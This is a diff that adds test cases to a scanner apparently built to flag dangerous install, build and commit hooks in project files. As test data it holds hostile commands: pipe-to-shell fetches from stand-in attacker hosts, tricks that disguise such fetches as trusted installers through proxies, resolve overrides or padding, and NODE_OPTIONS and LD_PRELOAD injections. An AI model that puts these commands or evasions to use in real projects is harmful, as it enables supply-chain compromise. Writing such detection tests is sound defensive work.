@@ -66,6 +66,126 @@ describe('hooks', () => {
       expect(await devcontainer(`curl -s ${address} | sh`)).toEqual(['HIGH HOOK-DANGEROUS-COMMAND']);
   });
 
+  it('from known installers are ordinary only when nothing else is fetched, and in no other way', async () => {
+    const devcontainer = (postCreateCommand: string): Promise<string[]> =>
+      told('.devcontainer/devcontainer.json', { postCreateCommand });
+    const known = 'https://sh.rustup.rs';
+    for (const command of [
+      `curl --proto '=https' --tlsv1.2 -sSf ${known} | sh -s -- -y`,
+      `wget -qO- ${known} | sh`,
+      'curl -fsSL get.docker.com -o get-docker.sh && sh get-docker.sh',
+      'curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash',
+      'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
+      'curl -fsSL https://deno.land/install.sh | sh',
+      'bash <(curl -s https://get.pnpm.io/install.sh)',
+      'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"',
+    ])
+      expect([command, await devcontainer(command)]).toEqual([command, []]);
+    for (const command of [
+      `curl -s -e ${known}/ evil.example.com/x | sh`,
+      `curl -s evil.example.com/x | sh # ${known}`,
+      `: ${known} ${'x'.repeat(4100)}; curl -s evil.example.com/x | sh`,
+      `curl -s --connect-to ::evil.example.com ${known} | sh`,
+      `curl -s -x evil.example.com:80 ${known} | sh`,
+      `curl -s --resolve sh.rustup.rs:443:192.0.2.1 ${known} | sh`,
+      `curl -s -H "Origin: ${known}" evil.example.com | sh`,
+      `https_proxy=evil.example.com curl -s ${known} | sh`,
+      'curl -s https://astral.sh/uv/../x | sh',
+      'curl -s https://deno.land/x/install/other.sh | sh',
+      'curl -s https://astral.sh/other | sh',
+    ])
+      expect([command.slice(0, 80), await devcontainer(command)]).toEqual([
+        command.slice(0, 80),
+        ['HIGH HOOK-DANGEROUS-COMMAND'],
+      ]);
+  });
+
+  it('are not harmless with a word that changes what runs', async () => {
+    const script = (postinstall: string): Promise<string[]> =>
+      told('package.json', { scripts: { postinstall } });
+    for (const command of [
+      'NODE_OPTIONS=--require=./x.js husky',
+      'NODE_OPTIONS="--no-warnings --require ./x.js" tsc',
+      'cross-env NODE_OPTIONS=--import=./x.mjs tsc',
+      'PATH=./bin husky',
+      'env LD_PRELOAD=./x.so husky',
+      'npm_config_script_shell=./x npm run build',
+      'node node_modules/husky/../../x.js',
+      'uv sync --index-url http://packages.example.com',
+      'npm install --registry=packages.example.com',
+      'node -e "require(\'./postinstall\')"',
+    ])
+      expect([command, await script(command)]).toEqual([command, ['MEDIUM HOOK-INSTALL-SCRIPT']]);
+    for (const command of [
+      'NODE_OPTIONS=--max-old-space-size=8192 tsc',
+      "cross-env NODE_OPTIONS='--max-old-space-size=8192 --no-warnings' tsc -p .",
+      'HUSKY=0 npm ci',
+      'npm_config_yes=true npx husky',
+      'uv sync --all-extras --group dev',
+      'uv run pytest -q',
+      'node node_modules/husky/bin.js',
+      'node -e "require(\'husky\')"',
+    ])
+      expect([command, await script(command)]).toEqual([command, []]);
+  });
+
+  it('of binding.gyp: what it runs when it is read, and when it builds', async () => {
+    const gyp = (value: string): Promise<string[]> =>
+      told('binding.gyp', `{'targets': [{'sources': ['${value}']}]}`);
+    for (const command of [
+      '<!(find . -name x -exec sh {} +)',
+      '<!(gcc -wrapper sh,-c,x main.c)',
+      '<!(x.sh pkg-config --libs)',
+      "<!(node -p \"require(\\'module\\').createRequire(\\'x\\')(\\'./x\\')\")",
+      '<(a) <!(node x.js)',
+      '<!(node x.js',
+    ])
+      expect([command, await gyp(command)]).toEqual([command, ['MEDIUM HOOK-GYP-COMMAND']]);
+    for (const command of [
+      '<!(find . -name "*.c")',
+      '<!(gcc -print-sysroot)',
+      '<!(PKG_CONFIG_PATH=/x pkg-config --libs glib-2.0)',
+      '<!(node -p "require(\\\'node-addon-api\\\').include")',
+    ])
+      expect([command, await gyp(command)]).toEqual([command, []]);
+    const action = (words: string): string =>
+      `{'targets': [{'actions': [{'action_name': 'a', 'action': [${words}]}]}]}`;
+    expect(await told('binding.gyp', action("'node', 'x.js', '<(PRODUCT_DIR)/y'"))).toEqual([
+      'MEDIUM HOOK-GYP-COMMAND',
+    ]);
+    expect(await told('binding.gyp', action("'cp', 'x', '<(PRODUCT_DIR)/y'"))).toEqual([]);
+  });
+
+  it('of commits are quiet unless dangerous', async () => {
+    const danger = 'curl -s https://x.example.com/i | sh';
+    for (const setting of [
+      { 'lint-staged': { '*.js': ['eslint', danger] } },
+      { 'simple-git-hooks': { 'pre-commit': danger } },
+      { 'pre-commit': [danger] },
+      { husky: { hooks: { 'pre-commit': danger } } },
+    ])
+      expect(await told('package.json', setting)).toEqual(['HIGH HOOK-DANGEROUS-COMMAND']);
+    expect(
+      await told('package.json', { 'lint-staged': { '*.js': 'eslint' }, 'pre-commit': ['lint', 'test'] }),
+    ).toEqual([]);
+  });
+
+  it('name the package manager by a version, and not by an address', async () => {
+    const manager = (packageManager: string): Promise<string[]> => told('package.json', { packageManager });
+    expect(await manager('yarn@https://x.example.com/y.js#sha224.aa')).toEqual(['HIGH HOOK-PACKAGE-MANAGER']);
+    expect(await manager('pnpm@10.0.0+sha512.aa')).toEqual([]);
+  });
+
+  it('of submodules: an update that is a command', async () => {
+    const modules = (update: string): Promise<string[]> =>
+      told(
+        '.gitmodules',
+        `[submodule "a"]\n\tpath = a\n\turl = https://x.example.com/a\n\tupdate = ${update}\n`,
+      );
+    expect(await modules('!sh x')).toEqual(['HIGH HOOK-DANGEROUS-COMMAND']);
+    expect(await modules('rebase')).toEqual([]);
+  });
+
   it('of makefiles matter most where make begins', async () => {
     const danger = '\tcurl -s https://x.example.com/i | sh\n';
     expect(await told('Makefile', `all: a\na: b\nb:\n${danger}`)).toEqual(['HIGH HOOK-DANGEROUS-COMMAND']);
